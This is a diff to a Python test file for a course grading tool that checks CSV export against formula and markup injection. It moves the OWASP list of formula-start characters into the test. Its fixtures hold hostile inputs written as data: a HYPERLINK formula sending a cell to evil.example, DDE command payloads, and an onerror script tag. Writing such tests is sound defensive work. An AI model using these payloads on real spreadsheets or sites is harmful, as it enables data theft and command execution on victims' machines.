@@ -13,7 +13,6 @@ from nbgrader.api import Gradebook
 
 from course_tools.cli import main
 from course_tools.content.loader import Course, load_course
-from course_tools.grading.csv_safe import FORMULA_START
 from course_tools.grading.lifecycle import feedback
 from course_tools.rubric.grader import Grading
 from course_tools.rubric.report import write_report
@@ -28,6 +27,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
 MARKUP = '<img src=x onerror="window.__pwned=1">Eve'
 HOSTILE = {2: (FORMULA, MARKUP, "@SUM(1+1)*cmd|' /C calc'!A0"),  # student 2 is late: on the late table too
            1: ("+cmd|' /C calc'!A0", "-2+3", "\tx@example.org"), 3: ("\rCarriage", "Plain", "ok@example.org")}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list, kept apart from the code under test
 NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
 
 
